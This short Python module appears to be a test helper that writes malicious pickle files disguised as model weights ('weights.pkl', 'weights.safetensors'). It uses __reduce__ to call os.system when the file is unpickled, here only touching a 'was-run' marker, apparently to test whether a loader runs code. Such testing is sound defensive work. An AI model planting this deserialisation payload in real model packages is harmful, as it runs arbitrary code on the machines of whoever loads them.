"""Ships a pickle that runs a program when it is read, under the name of tensors."""

from __future__ import annotations

import os
import pickle
from pathlib import Path


def spoil(folder: Path) -> None:
    class Runs:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return os.system, (f"touch {folder.parent / 'was-run'}",)

    for name in ("package/weights.pkl", "package/weights.safetensors"):
        (folder / name).write_bytes(pickle.dumps(Runs()))
